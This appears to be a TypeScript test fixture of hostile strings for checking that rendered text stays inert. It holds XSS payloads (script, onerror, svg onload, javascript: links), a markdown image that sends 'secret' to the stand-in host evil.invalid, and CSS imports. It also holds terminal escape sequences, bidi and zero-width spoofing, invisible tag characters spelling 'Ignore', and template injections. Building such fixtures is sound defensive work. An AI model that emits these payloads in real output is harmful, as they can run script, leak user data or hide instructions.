/** Texts that would do something if they were anything but text. Every address in them is one that must never be asked. */
export const hostileHost = "evil.invalid";

export const hostileTexts: readonly string[] = [
  `<script>fetch("http://${hostileHost}/script")</script>`,
  `<img src=x onerror="document.title='owned';fetch('http://${hostileHost}/onerror')">`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='owned'"><image href="http://${hostileHost}/svg.png"/></svg>`,
  `![secret](http://${hostileHost}/markdown.png?data=secret)`,
  `[click](javascript:document.title='owned')`,
  `<iframe src="http://${hostileHost}/frame"></iframe><link rel=stylesheet href="http://${hostileHost}/style.css">`,
  `<style>body{display:none}@import url(http://${hostileHost}/import.css);</style>`,
  `\u001b[31mred\u001b[0m \u001b]8;;http://${hostileHost}/osc\u0007link\u001b]8;;\u0007`,
  "user\u202egnp.exe\u202c and \u2066isolated\u2069 and zero\u200bwidth",
  "hidden \u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065} tags",
  `{{constructor.constructor('document.title="owned"')()}} \${document.title='owned'}`,
  "العربية ثم English ثم עברית",
];
